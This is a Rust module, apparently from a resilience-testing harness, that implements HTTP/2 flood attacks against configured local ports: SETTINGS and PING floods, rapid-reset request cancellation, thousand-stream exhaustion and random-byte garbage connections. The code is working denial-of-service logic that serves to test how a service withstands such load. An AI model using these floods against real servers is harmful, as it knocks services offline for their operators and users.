//! Floods of HTTP/2 frames and streams that the protocol allows.

use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::super::attackers::{AttackCounts, run_attackers};
use super::super::dial::{self, until_closed};
use super::super::topology::{Http2Target, SiegeTopology};
use super::super::{Attack, all_clients, frames, grpc};

const CONNECTIONS_PER_PORT: usize = 4;
/// Between two bursts of a connection.
const PAUSE: Duration = Duration::from_millis(100);
/// Streams on a connection, or fewer if its peer allows fewer.
const STREAMS: usize = 1_000;
/// Frames in a burst.
const BURST: u32 = 100;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "settings-flood",
        does: "SETTINGS without end to 10901, 10903 and 10900",
        bound: "12 connections, each 1,000 a second",
        min_duration: Duration::ZERO,
        clients: all_clients,
        run_attack: settings_flood,
    },
    Attack {
        name: "ping-flood",
        does: "PING without end to the same",
        bound: "12 connections, each 1,000 a second",
        min_duration: Duration::ZERO,
        clients: all_clients,
        run_attack: ping_flood,
    },
    Attack {
        name: "rapid-reset",
        does: "requests to the same, each reset at once",
        bound: "12 connections, each 1,000 a second",
        min_duration: Duration::ZERO,
        clients: all_clients,
        run_attack: rapid_reset,
    },
    Attack {
        name: "thousand-streams",
        does: "requests to the same that never end, as many as are let in on a connection",
        bound: "6 connections × 1,000 streams",
        min_duration: Duration::ZERO,
        clients: all_clients,
        run_attack: thousand_streams,
    },
    Attack {
        name: "garbage",
        does: "random bytes to 10900, 10901, 10903, 10904 and a cluster's 11901",
        bound: "200 connections at a time, 64 KiB each",
        min_duration: Duration::ZERO,
        clients: all_clients,
        run_attack: garbage,
    },
];

/// Sends bursts until the peer closes. `burst`: the bytes of burst number `n` to a target.
fn flood(
    topology: &SiegeTopology,
    until: Instant,
    burst: fn(u32, &Http2Target) -> Vec<u8>,
) -> Result<AttackCounts> {
    let targets = topology.http2_targets()?;
    dial::run(&topology.attacker_host, || async move {
        run_attackers(targets.len() * CONNECTIONS_PER_PORT, until, move |attacker| {
            let target = targets[attacker.number % targets.len()].clone();
            async move {
                let mut io = target.endpoint.connect().await?;
                attacker.count_opened();
                io.write_all(&frames::preface()).await?;
                let (mut read, mut write) = tokio::io::split(io);
                let sending = async {
                    for n in 0.. {
                        if write.write_all(&burst(n, &target)).await.is_err()
                            || write.flush().await.is_err()
                        {
                            break;
                        }
                        sleep(PAUSE).await;
                    }
                };
                tokio::select! {
                    () = sending => {}
                    () = until_closed(&mut read) => {}
                }
                Ok(())
            }
        })
        .await
    })
}

fn settings_flood(topology: &SiegeTopology, until: Instant) -> Result<AttackCounts> {
    // SETTINGS_HEADER_TABLE_SIZE, which the peer must apply and acknowledge.
    flood(topology, until, |_, _| {
        (0..BURST).flat_map(|n| frames::settings(&[(1, 4096 - n)])).collect()
    })
}

fn ping_flood(topology: &SiegeTopology, until: Instant) -> Result<AttackCounts> {
    flood(topology, until, |_, _| (0..BURST).flat_map(|_| frames::ping()).collect())
}

fn rapid_reset(topology: &SiegeTopology, until: Instant) -> Result<AttackCounts> {
    flood(topology, until, |burst, target| {
        let streams = (0..BURST).map(|n| 1 + 2 * (burst * BURST + n));
        let each = |stream| {
            [
                frames::request(stream, "POST", target.authority, target.path, false),
                frames::reset(stream),
            ]
            .concat()
        };
        streams.flat_map(each).collect()
    })
}

fn thousand_streams(topology: &SiegeTopology, until: Instant) -> Result<AttackCounts> {
    let targets = topology.http2_targets()?;
    dial::run(&topology.attacker_host, || async move {
        run_attackers(targets.len() * 2, until, move |attacker| {
            let target = targets[attacker.number % targets.len()].clone();
            async move {
                let mut settings = h2::client::Builder::new();
                settings.initial_max_send_streams(STREAMS);
                let sender = grpc::http2_with(target.endpoint.connect().await?, &settings).await?;
                grpc::keep_open(&attacker, sender, STREAMS, |sender| {
                    grpc::send_headers_now(sender, target.authority, target.path)
                })
                .await
            }
        })
        .await
    })
}

fn garbage(topology: &SiegeTopology, until: Instant) -> Result<AttackCounts> {
    let ports = topology.ports();
    dial::run(&topology.attacker_host, || async move {
        run_attackers(200, until, move |attacker| {
            let at = ports[attacker.number % ports.len()];
            async move {
                let mut tcp = dial::tcp(at).await?;
                attacker.count_opened();
                let mut number = 0x9e37_79b9_7f4a_7c15 ^ attacker.number as u64;
                for _ in 0..64 {
                    let bytes: Vec<u8> =
                        (0..128).flat_map(|_| next_random(&mut number).to_le_bytes()).collect();
                    tcp.write_all(&bytes).await?;
                    sleep(PAUSE).await;
                }
                until_closed(&mut tcp).await;
                Ok(())
            }
        })
        .await
    })
}

/// The next pseudorandom number (xorshift64): the same sequence in every run.
fn next_random(number: &mut u64) -> u64 {
    *number ^= *number << 13;
    *number ^= *number >> 7;
    *number ^= *number << 17;
    *number
}
